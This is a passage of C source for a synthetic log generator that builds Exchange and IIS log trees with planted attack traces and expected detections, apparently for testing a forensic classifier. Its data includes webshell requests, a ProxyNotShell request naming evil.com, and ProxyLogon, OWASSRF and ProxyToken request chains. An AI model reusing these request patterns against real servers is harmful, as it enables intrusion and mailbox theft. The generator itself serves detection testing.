    {2, 1, 3 * 3600 + 20 * 60, "POST /aspnet_client/system_web/Xs5wPqL2.aspx - 443 - 104.140.114.110 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 31",
     {R_WEBSHELL}, {"high"}},
    {2, 1, 3 * 3600 + 21 * 60, "POST /owa/auth/errorEE.aspx - 443 - 104.140.114.110 antSword/v2.1 - 200 0 0 44",
     {R_WEBSHELL, R_HAFNIUM}, {"high", "high"}},
    {2, 1, 3 * 3600 + 22 * 60, "POST /owa/auth/Current/themes/resources/logon.css - 443 - 104.140.114.110 python-requests/2.25.1 - 200 0 0 12",
     {R_HAFNIUM}, {"high"}},
    /* ProxyNotShell, OWASSRF, ProxyToken, CVE-2020-0688 */
    {3, 1, 9 * 3600, "GET /autodiscover/autodiscover.json @evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell 443 - 185.220.101.7 Mozilla/5.0+zgrab/0.x - 200 0 0 51",
     {R_PNS}, {"high"}},
    {3, 1, 9 * 3600 + 300, "POST /owa/mastermailbox%40outlook.com/powershell clientId=D1D3AA3D2E2D41B6A9A94A4E2E7B1F1C&CorrelationID=<empty>;&cafeReqId=77aa; 443 - 185.220.101.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/105.0.5195.54+Safari/537.36 - 200 0 0 402",
     {R_OWASSRF}, {"critical"}},
    {3, 1, 10 * 3600, "POST /ecp/RulesEditor/InboxRules.svc/NewObject SecurityToken=x&CorrelationID=<empty>; 443 - 185.220.101.7 python-requests/2.26.0 - 500 0 0 77",
     {R_PROXYTOKEN}, {"high"}},
    {3, 1, 11 * 3600, "GET /ecp/default.aspx __VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAA 443 CONTOSO\\user7 185.220.101.7 Mozilla/5.0+(Windows+NT+10.0) - 500 0 0 20",
     {R_VIEWSTATE}, {"high"}},
};

static void iis_header(out *o, int64_t t) {
  char ts[40], d[64];
  iso(t, ts, sizeof ts);
  out_line(o, "#Software: Microsoft Internet Information Services 10.0");
  out_line(o, "#Version: 1.0");
  snprintf(d, sizeof d, "#Date: %.10s %.8s", ts, ts + 11);
  out_line(o, d);
  out_line(o, "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken");
}

static void iis_benign(char *b, size_t n, int site) {
  unsigned user = rn(800);
  unsigned o3 = rn(256), o4 = 1 + rn(254);
  char ip[32];
  snprintf(ip, sizeof ip, "10.%u.%u.%u", rn(4), o3, o4);
  char req[64];
  unsigned r1 = (unsigned)rnd(), r2 = rn(65536);
  snprintf(req, sizeof req, "%08x-%04x", r1, r2);
  /* draws used below, taken here in a fixed order (argument order varies by compiler) */
  unsigned d1 = (unsigned)rnd(), d2 = rn(65536), d3 = rn(900), d4 = 45 + rn(150), d5 = rn(256);
  switch (rn(12)) {
  case 0:
    snprintf(b, n, "GET /owa/ &CorrelationID=<empty>;&cafeReqId=%s; %d CONTOSO\\user%u %s Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36 - 200 0 0 %u",
             req, site == 1 ? 443 : 444, user, ip, rn(400));
    break;
  case 1:
    snprintf(b, n, "POST /owa/auth.owa &CorrelationID=<empty>;&cafeReqId=%s; 443 user%u@contoso.com %s Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) https://mail.contoso.com/owa/auth/logon.aspx 302 0 0 %u",
             req, user, ip, rn(300));
    break;
  case 2:
    snprintf(b, n, "GET /owa/auth/logon.aspx url=https%%3a%%2f%%2fmail.contoso.com%%2fowa%%2f&reason=0&CorrelationID=<empty>;&cafeReqId=%s; 443 - %s Mozilla/5.0+(iPhone;+CPU+iPhone+OS+14_4+like+Mac+OS+X) - 200 0 0 %u",
             req, ip, rn(100));
    break;
  case 3:
    snprintf(b, n, "POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeReqId=%s; 443 CONTOSO\\user%u %s Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13127;+Pro) - 200 0 0 %u",
             req, user, ip, rn(800));
    break;
  case 4:
    snprintf(b, n, "POST /Microsoft-Server-ActiveSync/default.eas Cmd=Sync&User=user%u&DeviceId=ABCD%04u&DeviceType=iPhone&CorrelationID=<empty>;&cafeReqId=%s; 443 CONTOSO\\user%u %s Apple-iPhone12C1/1805.212 - 200 0 0 %u",
             user, user, req, user, ip, rn(60000));
    break;
  case 5:
    snprintf(b, n, "POST /mapi/emsmdb/ mailboxId=%08x@contoso.com&CorrelationID=<empty>;&cafeReqId=%s; 443 CONTOSO\\user%u %s Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13127;+Pro) - 200 0 0 %u",
             d1, req, user, ip, d3);
    break;
  case 6:
    /* Outlook mobile's own autodiscover.json: an '@' but no back-end path */
    snprintf(b, n, "GET /autodiscover/autodiscover.json/v1.0/user%u@contoso.com Protocol=ActiveSync&RedirectCount=1&CorrelationID=<empty>;&cafeReqId=%s; 443 - %s Outlook-iOS/723.4027091.prod.iphone+(4.2106.0) - 200 0 0 %u",
             user, req, ip, rn(100));
    break;
  case 7:
    /* Managed Availability probes */
    snprintf(b, n, "GET /Microsoft-Server-ActiveSync/default.eas &CorrelationID=<empty>;&cafeReqId=%s; 443 HealthMailbox%04x@contoso.com ::1 AMProbe/Local/ClientAccess - 200 0 0 %u",
             req, d2, d3 % 50);
    break;
  case 8:
    /* an administrator's remote PowerShell (Kerberos, WinRM) */
    snprintf(b, n, "POST /powershell clientApplication=ActiveMonitor;PSVersion=5.1.14393.4046&CorrelationID=<empty>;&cafeReqId=%s; 80 CONTOSO\\admin %s Microsoft+WinRM+Client - 200 0 0 %u",
             req, ip, rn(900));
    break;
  case 9:
    /* an EWS query with a raw space in it (plaso#3529) */
    snprintf(b, n, "GET /EWS/Exchange.asmx/s/GetUserPhoto email=user%u@contoso.com&size=HR96x96 &CorrelationID=<empty>;&cafeReqId=%s; 443 CONTOSO\\user%u %s Microsoft+Office/16.0 - 200 0 0 %u",
             user, req, user, ip, rn(100));
    break;
  case 10:
    /* internet noise: scans for the old ProxyLogon carrier, answered 404 */
    snprintf(b, n, "GET /owa/auth/x.js - 443 - %u.%u.%u.%u Mozilla/5.0+zgrab/0.x - 404 0 2 %u", d4, d5, o3, o4, d3 % 20);
    break;
  default:
    snprintf(b, n, "GET /ecp/ &CorrelationID=<empty>;&cafeReqId=%s;&LogoffReason=NoCookiesGetOrE14AuthPost 443 - ::1 AMProbe/Local/ClientAccess - 302 0 0 %u",
             req, rn(40));
    break;
  }
}

static void write_iis(int days, long lines_per_day) {
  for (int site = 1; site <= 2; site++) {
    char dir[256];
    snprintf(dir, sizeof dir, "C/inetpub/logs/LogFiles/W3SVC%d", site);
    for (int d = 0; d < days; d++) {
      int64_t ds = T0 + d * DAY;
      int Y, M, D, hh, mi, s, ms;
      civil(ds, &Y, &M, &D, &hh, &mi, &s, &ms);
      char name[64];
      snprintf(name, sizeof name, "u_ex%02d%02d%02d.log", Y % 100, M, D);
      out o;
      out_open(&o, dir, name, "\r\n");
      iis_header(&o, ds);
      long n = lines_per_day;
      int64_t *times = malloc((size_t)(n + 1) * sizeof *times);
      for (long i = 0; i < n; i++) times[i] = ds + (int64_t)rn((unsigned)(DAY / 1000)) * 1000;
      qsort(times, (size_t)n, sizeof *times, cmp_i64);
      size_t ai = 0, na = attack ? sizeof IIS_ATTACKS / sizeof IIS_ATTACKS[0] : 0;
      char line[2048], body[1600], ts[40];
      for (long i = 0; i <= n; i++) {
        int64_t t = i < n ? times[i] : ds + DAY;
        for (; ai < na; ai++) {
          const iis_event *e = &IIS_ATTACKS[ai];
          int64_t et = T0 + e->day * DAY + e->sec * 1000ll;
          if (e->day != d || e->site != site) continue;
          if (et > t) break;
          iso(et, ts, sizeof ts);
          snprintf(line, sizeof line, "%.10s %.8s 10.0.0.5 %s", ts, ts + 11, e->line);
          out_line(&o, line);
          for (int r = 0; r < 3 && e->rules[r]; r++) expect(e->rules[r], e->levels[r], o.rel, o.line);
        }
        if (i == n) break;
        iis_benign(body, sizeof body, site);
        iso(times[i], ts, sizeof ts);
        snprintf(line, sizeof line, "%.10s %.8s 10.0.0.5 %s", ts, ts + 11, body);
        out_line(&o, line);
      }
      free(times);
      fclose(o.f);
    }
  }
}

/* ---- scenario ----------------------------------------------------------- */

static void plan_events(int days) {
  static const char *const ATT_IP = "104.140.114.110";
  static const char *const ATT2_IP = "89.34.111.11";
  /* internet scanner noise: localhost probes spread over every day (low) */
  for (int d = 0; d < days && probes; d++)
    for (int k = 0; k < 6; k++) {
      static char ips[64][32];
      static int used;
      hp_event *e = add_event(T0 + d * DAY + (int64_t)rn((unsigned)DAY), 6);
      char *ip = ips[used++ % 64];
      unsigned o1 = 45 + rn(150), o2 = rn(256), o3 = rn(256), o4 = 1 + rn(254);
      snprintf(ip, 32, "%u.%u.%u.%u", o1, o2, o3, o4);
      e->ip = ip;
      e->ua = k % 2 ? "Mozilla/5.0 zgrab/0.x" : "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
      e->stem = "/owa/auth/x.js";
      e->anchor = "ServerInfo~localhost/ecp/default.flt?";
      e->status = "500";
      e->method = "GET";
      e->hint = "X-AnonResource-Backend-Cookie";
      e->rules[0] = R_PROBE, e->levels[0] = "low";
    }
  if (!attack) return;
  /* a failed attempt from a second actor: autodiscover only (medium) */
  hp_event *e = add_event(T0 + DAY + 5 * HOUR + 123456, 2);
  e->ip = ATT2_IP, e->ua = "python-requests/2.25.1", e->stem = "/ecp/ahyb.js";
  e->anchor = "ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#";
  e->status = "200";
  e->rules[0] = R_FAILED, e->levels[0] = "medium";
  /* the HAFNIUM chain (facts §2.1), 2021-03-03 ~03:1x */
  int64_t t = T0 + 2 * DAY + 3 * HOUR + 600000;
  static const char *const steps[][3] = {
      {"ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#", "200", "f"},
      {"ServerInfo~a]@exch01.contoso.local:444/mapi/emsmdb/?#", "200", "s"},
      {"ServerInfo~a]@exch01.contoso.local:444/ecp/proxyLogon.ecp?#", "241", "s"},
      {"ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Wk3aDn5vE0qZf8&schema=OABVirtualDirectory#", "200", "s"},
      {"ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Wk3aDn5vE0qZf8&schema=OABVirtualDirectory#", "200", "s"},
      {"ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Wk3aDn5vE0qZf8&schema=ResetOABVirtualDirectory#", "200", "r"},
  };
  for (int i = 0; i < 6; i++) {
    e = add_event(t + i * 7000, 2);
    e->ip = ATT_IP;
    e->ua = i == 0 ? "ExchangeServicesClient/0.0.0.0" : "python-requests/2.25.1";
    e->stem = "/ecp/y.js";
    e->anchor = steps[i][0];
    e->status = steps[i][1];
    if (steps[i][2][0] == 'f') e->rules[0] = R_FAILED, e->levels[0] = "medium";
    if (steps[i][2][0] == 's') e->rules[0] = R_SSRF, e->levels[0] = "high";
    if (steps[i][2][0] == 'r') {
      e->rules[0] = R_SSRF, e->levels[0] = "high";
      e->rules[1] = R_RESETVDIR, e->levels[1] = "critical";
    }
  }
  /* a Reset request that failed (500): SSRF only, no 27065 */
  e = add_event(t + 60000, 2);
  e->ip = ATT_IP, e->ua = "python-requests/2.25.1", e->stem = "/ecp/y.js";
  e->anchor = "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Wk3aDn5vE0qZf8&schema=ResetOABVirtualDirectory#";
  e->status = "500";
  e->rules[0] = R_SSRF, e->levels[0] = "high";
  /* the SSRF reaching EWS through the Owa front end later that day (mailbox theft) */
  e = add_event(t + 2 * HOUR + 4242, 6);
  e->ip = ATT_IP, e->ua = "python-requests/2.25.1", e->stem = "/owa/auth/Current/themes/resources/logon.css";
  e->anchor = "ServerInfo~a]@exch01.contoso.local:444/EWS/Exchange.asmx?#";
  e->status = "200";
  e->rules[0] = R_SSRF, e->levels[0] = "high";
}

int main(int argc, char **argv) {
  const char *truth_path = NULL, *scenario = "attack", *manifest_path = NULL;
  long size_mb = 0, lines = 0;
  int days = 4;
  for (int i = 1; i < argc; i++) {
    if (!strcmp(argv[i], "--seed") && i + 1 < argc) rng_state ^= strtoull(argv[++i], NULL, 10) * 0x9E3779B97F4A7C15ull + 1;
    else if (!strcmp(argv[i], "--host") && i + 1 < argc) {
      host_name = argv[++i];
      snprintf(host_fqdn, sizeof host_fqdn, "%.100s.contoso.local", host_name);
    } else if (!strcmp(argv[i], "--size-mb") && i + 1 < argc) size_mb = atol(argv[++i]);
    else if (!strcmp(argv[i], "--days") && i + 1 < argc) days = atoi(argv[++i]);
    else if (!strcmp(argv[i], "--lines") && i + 1 < argc) lines = atol(argv[++i]);
    else if (!strcmp(argv[i], "--scenario") && i + 1 < argc) scenario = argv[++i];
    else if (!strcmp(argv[i], "--out") && i + 1 < argc) tree = argv[++i];
    else if (!strcmp(argv[i], "--truth") && i + 1 < argc) truth_path = argv[++i];
    else if (!strcmp(argv[i], "--manifest") && i + 1 < argc) manifest_path = argv[++i];
    else die("usage: exgen [--seed N] [--size-mb N | --lines N] [--days N] [--scenario attack|clean|benign] [--host NAME] --out TREE [--truth FILE] [--manifest FILE]");
  }
  if (!tree) die("--out is required");
  if (days < 3) days = 3;
  if (days > 60) days = 60;
  /* attack: every chain + probes; clean: probes only (an internet-facing
   * server that was never exploited); benign: no probe either */
  attack = !strcmp(scenario, "attack");
  probes = strcmp(scenario, "benign") != 0;
  if (!attack && strcmp(scenario, "clean") && strcmp(scenario, "benign")) die("unknown scenario '%s'", scenario);
  T0 = days_from_civil(2021, 3, 1) * 86400000ll;
  /* ~520 bytes per HttpProxy line (measured); the other logs are small */
  long lines_per_file = size_mb > 0 ? (long)((double)size_mb * 1e6 / 520.0 / (10.0 * days * 24)) : 12;
  if (lines_per_file < 4) lines_per_file = 4;
  if (lines > 0) lines_per_file = lines;
  mkdirs(tree);
  if (truth_path && !(truth = fopen(truth_path, "w"))) die("cannot write %s", truth_path);
  if (manifest_path && !(manifest = fopen(manifest_path, "w"))) die("cannot write %s", manifest_path);
  plan_events(days);
  write_httpproxy(days, lines_per_file);
  write_ecp(days);
  write_oabgen(days);
  write_other(days);
  write_iis(days, lines_per_file * 24);
  /* supporting files: benign backup-tool archive on every server */
  write_file("C/ProgramData/VMware/VMware Tools/vss_manifests.zip", "PK\005\006\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", T0 + DAY);
  const char *arch_level = attack ? "high" : "informational";
  expect(R_ARCHIVE, arch_level, "C/ProgramData/VMware/VMware Tools/vss_manifests.zip", 0);
  if (attack) {
    expect(R_LSASS, "high", "C/Windows/Temp/lsass.dmp", 0);
    write_file("C/ProgramData/it.zip", "PK\003\004", T0 + 2 * DAY + 5 * HOUR);
    expect(R_ARCHIVE, "high", "C/ProgramData/it.zip", 0);
    /* near misses the classifier must ignore */
    write_file("C/ProgramData/Microsoft/Crypto/System.IO.Compression.ZipFile.dll", "MZ", T0);
    write_file("C/Users/admin/Downloads/lsass-notes.txt", "notes", T0);
  }
  write_disk_files(); /* after the logs: the random draws of the logs stay as they were */
  write_postexploit(); /* no random draw: the files above stay as they were */
  if (truth) fclose(truth);
  if (manifest) fclose(manifest);
  free(events);
  return 0;
}
